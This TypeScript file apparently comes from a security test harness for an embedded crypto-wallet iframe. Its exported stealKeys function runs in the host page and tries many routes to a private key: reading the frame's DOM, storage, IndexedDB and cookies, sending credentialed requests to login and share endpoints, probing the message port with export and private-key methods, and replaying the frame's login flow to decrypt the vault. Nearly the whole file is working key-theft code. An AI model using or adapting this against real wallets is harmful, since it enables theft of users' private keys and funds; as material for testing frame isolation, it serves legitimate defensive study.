/** What a script of the host page can lay its hands on. It is the frame's own code, as anybody can read it. */
interface FrameCode {
  readonly repository: {
    openDeviceRepository(): {
      keys(): Promise<{ readonly sealingKey: CryptoKey; readonly signingKeys: CryptoKeyPair }>
    }
  }
  readonly loginApi: {
    createLoginApi(options: { readonly url: string; keys(): Promise<CryptoKeyPair> }): {
      get(path: string, schema: unknown): Promise<{ readonly session: { readonly id: string } }>
      send(method: string, path: string, body: object, schema: unknown): Promise<object>
      bind(sessionId: string): void
    }
  }
  readonly operations: {
    createOperations(): { exportSecret(unlock: object, what: string): Promise<string> }
  }
}

interface Held {
  readonly element: HTMLIFrameElement
  request(method: string, params: object): Promise<object>
  post(method: string, params: object): string
}

declare const held: Held
declare const frameCode: FrameCode

/** What the script has come to. */
export interface Stolen {
  /** A private key in hex, if there is one. */
  readonly key: string | undefined
  /** Everything that it has read, in which there may be a key. */
  readonly texts: readonly string[]
  readonly tried: readonly string[]
}

const patientMs = 2_000

/** Accepts whatever the server answers. */
const anything = {
  kind: 'schema',
  type: 'unknown',
  async: false,
  '~run': (dataset: object) => Object.assign(dataset, { typed: true }),
}

/** Runs in the host page: tries everything that leads from there to a key. */
export async function stealKeys(frameUrl: string): Promise<Stolen> {
  const texts: string[] = []
  const tried: string[] = []
  const { origin } = new URL(frameUrl)
  const attempt = async (name: string, act: () => unknown): Promise<unknown> => {
    try {
      // What waits for the visitor never answers.
      const got = await Promise.race([
        act(),
        new Promise((resolve) => void setTimeout(resolve, patientMs)),
      ])
      texts.push(...textsOf(got))
      tried.push(`${name}: ${got === undefined ? 'nothing' : 'something'}`)
      return got
    } catch (error) {
      tried.push(`${name}: ${(error as Error).name}`)
      return undefined
    }
  }
  await attempt('its document', () => held.element.contentDocument?.documentElement.outerHTML)
  await attempt('its window', () => Object.keys(held.element.contentWindow ?? {}).map(String))
  await attempt('its storage', () => held.element.contentWindow?.localStorage.length)
  await attempt('its databases', () => held.element.contentWindow?.indexedDB.databases())
  await attempt('cookies', () => document.cookie)
  for (const [method, path] of [
    ['GET', '/v1/login/session'],
    ['POST', '/v1/login/share'],
    ['GET', '/v1/login/devices'],
  ] as const)
    await attempt(`${method} ${path}`, async () => {
      const answer = await fetch(origin + path, {
        method,
        credentials: 'include',
        headers: { 'content-type': 'application/json' },
        ...(method === 'POST' && { body: '{}' }),
      })
      return await answer.text()
    })
  await attempt('what it asks of the server by itself', () =>
    fetch(frameUrl, { credentials: 'include' }).then((answer) => answer.text()),
  )
  for (const [method, params] of [
    ['export', { what: 'words' }],
    ['exportSecret', { what: 'words' }],
    ['user', {}],
    ['request', { networkId: 'eip155:1', method: 'eth_getPrivateKey', params: [] }],
    ['request', { networkId: 'eip155:1', method: 'wallet_exportKey', params: [] }],
    ['request', { networkId: 'eip155:1', method: '__proto__', params: [] }],
    [
      'request',
      { networkId: 'solana:5eykt4UsFv8P8NJdTREpY1vzqKqZKvdp', method: 'exportSecret', params: {} },
    ],
  ] as const)
    await attempt(`${method} over the port`, () => held.request(method, params))
  const key = (await attempt('the share, with the keys of this browser', () =>
    openWallet(origin),
  )) as string | undefined
  return { key, texts, tried }
}

/** What the frame does to sign: proves the device, gets the server's share, and opens the vault with both. */
async function openWallet(origin: string): Promise<string | undefined> {
  const { repository, loginApi, operations } = frameCode
  const devices = repository.openDeviceRepository()
  const api = loginApi.createLoginApi({
    url: origin,
    keys: async () => (await devices.keys()).signingKeys,
  })
  const stored = await readWallets()
  const { session } = await api.get('/v1/login/session', anything)
  api.bind(session.id)
  const share = await api.send('POST', '/v1/login/share', {}, anything)
  const { sealingKey } = await devices.keys()
  for (const wallet of stored) {
    const key = await operations
      .createOperations()
      .exportSecret({ ...share, ...wallet, sealingKey }, 'eip155')
    if (key) return key
  }
  return undefined
}

function readWallets(): Promise<readonly object[]> {
  return new Promise((resolve, reject) => {
    const opening = indexedDB.open('latchkit-frame')
    opening.addEventListener('error', () => reject(new Error('There is no database.')))
    opening.addEventListener('success', () => {
      const reading = opening.result.transaction('wallets').objectStore('wallets').getAll()
      reading.addEventListener('success', () => resolve(reading.result as object[]))
    })
  })
}

function textsOf(value: unknown): readonly string[] {
  return value === undefined || value === null
    ? []
    : [typeof value === 'string' ? value : JSON.stringify(value)]
}
